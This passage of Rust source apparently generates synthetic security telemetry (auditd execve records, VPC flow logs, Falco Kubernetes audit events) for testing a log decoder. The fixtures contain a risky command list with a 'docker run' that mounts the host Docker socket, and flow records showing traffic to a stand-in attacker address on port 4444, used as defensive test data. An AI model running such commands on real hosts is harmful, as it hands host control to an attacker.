    &[
        "docker",
        "run",
        "-d",
        "--restart",
        "always",
        "-v",
        "/var/run/docker.sock:/var/run/docker.sock",
        "registry.example.com:5000/x:1",
    ],
];

/// auditd `execve` events, one record per line, about `count` lines.
pub(crate) fn auditd(seed: u64, count: usize) -> Corpus {
    let mut rng = Rng::new(seed ^ 0x6175_6469_7464_0003);
    let mut clock = Clock::new();
    let mut lines = Vec::with_capacity(count + 8);
    let mut serial = 4000u64;
    let mut pid = 2000u64;
    while lines.len() < count {
        serial += 1 + rng.below(3);
        pid += 1 + rng.below(20);
        let micros = clock.tick(&mut rng, 200);
        let stamp = format!(
            "msg=audit({}.{:03}:{serial}):",
            micros / 1_000_000,
            micros / 1000 % 1000
        );
        let argv = if rng.chance(30) {
            rng.pick(RISKY_COMMANDS)
        } else {
            rng.pick(BENIGN_COMMANDS)
        };
        let comm = argv[0];
        let exe = if comm == "python3" {
            "/usr/bin/python3.11".to_string()
        } else {
            format!("/usr/bin/{comm}")
        };
        let (uid, auid) = if rng.chance(300) {
            ("0", "1000")
        } else {
            ("1000", "1000")
        };
        let key = if comm == "docker" {
            "docker-cli"
        } else {
            "exec"
        };
        lines.push(format!(
            "type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2a1b2c0 \
             a1=55d0c2a1b300 a2=55d0c2a1b400 a3=8 items=2 ppid={} pid={pid} auid={auid} uid={uid} \
             gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts1 \
             ses=3 comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"{key}\"",
            pid - 1 - rng.below(50)
        ));
        let mut execve = format!("type=EXECVE {stamp} argc={}", argv.len());
        for (i, arg) in argv.iter().enumerate() {
            let _ = write!(execve, " a{i}={}", audit_arg(arg));
        }
        lines.push(execve);
        lines.push(format!("type=CWD {stamp} cwd=\"/home/alice\""));
        lines.push(format!(
            "type=PATH {stamp} item=0 name=\"{exe}\" inode={} dev=fd:01 mode=0100755 ouid=0 \
             ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            1_400_000 + rng.below(200_000)
        ));
        let title = argv.join("\0");
        let title = &title.as_bytes()[..title.len().min(128)];
        lines.push(format!(
            "type=PROCTITLE {stamp} proctitle={}",
            hex_upper(title)
        ));
        lines.push(format!("type=EOE {stamp} "));
    }
    Corpus::from_lines("auditd", lines)
}

// ---------------------------------------------------------------- VPC flow logs

/// VPC flow log records in the default v2 format, `count` lines.
pub(crate) fn vpc_flow(seed: u64, count: usize) -> Corpus {
    let mut rng = Rng::new(seed ^ 0x7670_635f_666c_6f77);
    let mut clock = Clock::new();
    let enis: Vec<String> = (0..32).map(|_| format!("eni-{}", rng.hex(17))).collect();
    let lines: Vec<String> = (0..count)
        .map(|_| {
            let start = clock.tick(&mut rng, 20) / 1_000_000;
            let eni = &enis[rng.below(enis.len() as u64) as usize];
            let src = format!("10.42.{}.{}", rng.below(4), 2 + rng.below(250));
            let (dst, port) = if rng.chance(20) {
                ("203.0.113.50".to_string(), 4444)
            } else if rng.chance(300) {
                (
                    format!("52.94.{}.{}", rng.below(255), rng.below(255)),
                    443,
                )
            } else {
                (
                    format!("10.42.{}.{}", rng.below(4), 2 + rng.below(250)),
                    *rng.pick(&[&443u16, &5432, &6379, &8080]),
                )
            };
            let packets = 1 + rng.below(2000);
            let (action, status) = if rng.chance(50) {
                ("REJECT", "OK")
            } else {
                ("ACCEPT", "OK")
            };
            format!(
                "2 111122223333 {eni} {src} {dst} {} {port} 6 {packets} {} {start} {} {action} {status}",
                32_768 + rng.below(28_000),
                packets * (60 + rng.below(1400)),
                start + 60
            )
        })
        .collect();
    Corpus::from_lines("vpc_flow", lines)
}

// ---------------------------------------------------------------- Falco's audit files

/// Falco's Kubernetes audit test files (one audit event each) repeated until the corpus
/// holds `count` records. Files that are not one JSON object are left out, with a note.
pub(crate) fn falco_replicated(dir: &Path, count: usize) -> Result<(Corpus, Vec<String>), String> {
    let mut entries: Vec<_> = fs::read_dir(dir)
        .map_err(|e| format!("{}: {e}", dir.display()))?
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    entries.sort();
    let mut events = Vec::new();
    let mut notes = Vec::new();
    for path in entries {
        let text = fs::read_to_string(&path).map_err(|e| format!("{}: {e}", path.display()))?;
        match serde_json::from_str::<Value>(&text) {
            Ok(value) if value.is_object() => {
                let trimmed = text.trim();
                events.push(if trimmed.contains('\n') {
                    value.to_string()
                } else {
                    trimmed.to_string()
                });
            }
            Ok(_) => notes.push(format!("{}: not a JSON object, left out", path.display())),
            // Several events, one per line: each line is a record.
            Err(_)
                if text
                    .lines()
                    .filter(|l| !l.trim().is_empty())
                    .all(|l| serde_json::from_str::<Value>(l).is_ok_and(|v| v.is_object())) =>
            {
                events.extend(
                    text.lines()
                        .map(str::trim)
                        .filter(|l| !l.is_empty())
                        .map(str::to_string),
                );
            }
            Err(e) => notes.push(format!("{}: not JSON ({e}), left out", path.display())),
        }
    }
    if events.is_empty() {
        return Err(format!("{}: no audit event files", dir.display()));
    }
    let lines = events.iter().cycle().take(count).cloned();
    Ok((Corpus::from_lines("falco_k8s_audit", lines), notes))
}

#[cfg(test)]
mod tests {
    use crowsnest_transform::decode::{self, Context, StreamState};

    use super::*;

    /// Every line decodes, with no error, as the corpus's own source.
    fn decodes_cleanly(corpus: &Corpus, source: &str) {
        let mut state = StreamState::default();
        let ctx = Context {
            file: corpus.name,
            vpc_flow_format: None,
        };
        for (n, line) in corpus.lines().enumerate() {
            let text = std::str::from_utf8(line).expect("UTF-8");
            match decode::decode(text, &mut state, &ctx) {
                Ok(record) => assert_eq!(record.source.as_str(), source, "line {}: {text}", n + 1),
                Err(e) => panic!("{} line {}: {e}: {text}", corpus.name, n + 1),
            }
        }
    }

    #[test]
    fn every_record_decodes_with_no_diagnostic() {
        decodes_cleanly(&k8s_audit(7, 3000), "k8s_audit");
        decodes_cleanly(&docker_events(7, 3000), "docker_event");
        decodes_cleanly(&docker_live_containers(7, 500), "docker_event");
        decodes_cleanly(&cloudtrail_ecs(7, 3000), "cloudtrail");
        decodes_cleanly(&auditd(7, 3000), "auditd");
        decodes_cleanly(&vpc_flow(7, 3000), "vpc_flow");
    }

    #[test]
    fn the_same_seed_gives_the_same_bytes_and_another_seed_others() {
        assert_eq!(k8s_audit(1, 200).bytes, k8s_audit(1, 200).bytes);
        assert_ne!(k8s_audit(1, 200).bytes, k8s_audit(2, 200).bytes);
        assert_eq!(auditd(1, 200).bytes, auditd(1, 200).bytes);
        assert_eq!(cloudtrail_ecs(3, 50).bytes, cloudtrail_ecs(3, 50).bytes);
    }

    #[test]
    fn record_sizes_are_realistic() {
        let within = |corpus: &Corpus, low: f64, high: f64| {
            let avg = corpus.average_bytes();
            assert!(
                (low..=high).contains(&avg),
                "{}: {avg:.0} B average, expected {low}..{high}",
                corpus.name
            );
        };
        within(&k8s_audit(11, 4000), 1600.0, 2000.0);
        within(&docker_events(11, 4000), 300.0, 420.0);
        within(&cloudtrail_ecs(11, 4000), 1800.0, 2300.0);
        assert_eq!(k8s_audit(11, 4000).records, 4000);
    }

    #[test]
    fn dates_are_civil() {
        assert_eq!(rfc3339_secs(0), "1970-01-01T00:00:00Z");
        assert_eq!(rfc3339_secs(1_715_677_923), "2024-05-14T09:12:03Z");
        assert_eq!(
            rfc3339_micros(1_709_208_000_000_001),
            "2024-02-29T12:00:00.000001Z"
        );
    }
}
